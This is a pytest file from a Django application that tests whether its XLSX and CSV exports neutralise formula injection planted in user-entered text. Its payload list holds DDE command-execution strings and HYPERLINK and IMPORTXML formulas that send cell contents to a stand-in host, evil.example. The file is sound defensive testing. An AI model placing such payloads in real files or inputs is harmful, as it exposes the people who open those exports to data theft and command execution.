"""What strangers typed never becomes a formula in somebody's spreadsheet, whichever list they open it in."""

import csv
import io
import zipfile
from collections.abc import Iterator
from itertools import count, cycle
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction

from kaltim_naker.access.actions import Action
from kaltim_naker.access.policy import can
from kaltim_naker.access.scope import ScopedModel
from kaltim_naker.pdf import engine
from kaltim_naker.privacy.scrubbed.plan import SCRUBBED
from kaltim_naker.ui.export import write_csv, write_xlsx
from kaltim_naker.ui.tables import Column
from tests.access.test_matrix import DOORS, address
from tests.conftest import client_of, exported
from tests.schema import as_owner
from tests.security import security

PAYLOADS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "｜calc",
    "=IMPORTXML(CONCAT(\"http://evil.example/\";A1);\"//a\")",
)  # fmt: skip
TRIGGERS = tuple("=+-@|＝＋－＠｜\t\r")
CHECK = security(8, "Formulas in exports: 13 payloads", target="0 formula cells, no CSV cell begins with a trigger")


@pytest.fixture(autouse=True)
def _papers_are_their_html(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "write_pdf", lambda order: (order.html.encode(), 1))


@pytest.fixture
def hostile(world):
    """The world with a payload in every free text that the database lets stand."""
    payloads, numbers = cycle(PAYLOADS), count()
    written = 0
    with as_owner():
        for model in apps.get_models():
            if not issubclass(model, ScopedModel):
                continue
            for row in model._default_manager.order_by("pk")[: len(PAYLOADS)]:
                written += sum(write(row, field, f"{next(payloads)} {next(numbers)}") for field in free_texts(model))
    assert written > 200
    return world


def free_texts(model: type[models.Model]) -> list[models.Field]:
    """What people type: the plan of the copy for testing knows it of every table."""
    named = ("sha256", "digest", "cipher", "key", "code", "file", "measure")
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and field.column in SCRUBBED.get(model._meta.label, {})
        and not any(word in field.name for word in named)
    ]


def write(row: models.Model, field: models.Field, text: str) -> bool:
    try:
        with transaction.atomic():
            type(row)._default_manager.filter(pk=row.pk).update(**{field.name: text[: field.max_length or 200]})
    except DatabaseError:
        return False  # a column with a form of its own, or one that nobody may change
    return True


@CHECK
def test_no_export_holds_a_formula(hostile, figure):
    found, cells, hostile_cells = [], 0, 0
    exports = 0
    for name, door in DOORS.items():
        if not isinstance(door.needs, Action) or door.method != "get":
            continue
        reader = next((user for user, _kind in hostile.people.values() if can(user, door.needs)), None)
        if reader is None:
            continue
        url = address(name, door, hostile.things[door.about].own.pk if door.about else None)
        client = client_of(reader)
        for ending in ("xlsx", "csv") if name.startswith("reports:") else ("xlsx",):
            response = exported(client, url, ending)
            content = b"".join(response.streaming_content) if response.streaming else response.content
            values = list(cells_of(content, response.headers.get("Content-Type", "")))
            exports += bool(values)
            cells += len(values)
            hostile_cells += sum(value.lstrip(" '").startswith(TRIGGERS) for value, _kind in values)
            found += [f"{kind} {value!r} in {name}" for value, kind in values if is_formula(value, kind)]
    figure(f"{exports} exports, {cells} cells, {hostile_cells} with a payload")
    assert not found, "\n".join(found)
    assert exports >= 25
    assert hostile_cells >= 100


def cells_of(content: bytes, kind: str) -> Iterator[tuple[str, str]]:
    """Each text of a table with the type of its cell; nothing for what is no table."""
    if "spreadsheet" in kind:
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                yield from ((str(cell.value), cell.data_type) for cell in row if cell.value is not None)
    elif kind.startswith("text/csv"):
        for line in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
            yield from ((cell, "csv") for cell in line)
    elif "zip" in kind:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                yield from cells_of(archive.read(name), "text/csv" if name.endswith(".csv") else "")


def is_formula(value: str, kind: str) -> bool:
    """openpyxl reads a cell with a formula as `f`; a CSV has no types, so that its first letter decides."""
    if kind != "csv":
        return kind == "f"
    return value.lstrip(" ").startswith(TRIGGERS) and not is_number(value)


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


@CHECK
@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_stays_text_in_rows_headings_and_notes(payload: str) -> None:
    columns = [Column("a", payload, value=lambda row: row["a"], fields=("a",)), Column("b", "B")]
    rows = [{"pk": 1, "a": payload, "b": f"x{payload}"}]
    book = write_xlsx(columns, rows, title=payload, notes=[(payload, payload)])
    read = list(cells_of(book.read(), "spreadsheet"))
    assert not [value for value, kind in read if kind == "f"]
    assert sum(payload.strip() in value for value, _kind in read) >= 4
    lines: list[Any] = list(cells_of(write_csv(columns, rows), "text/csv"))
    assert not [value for value, kind in lines if is_formula(value, kind)]
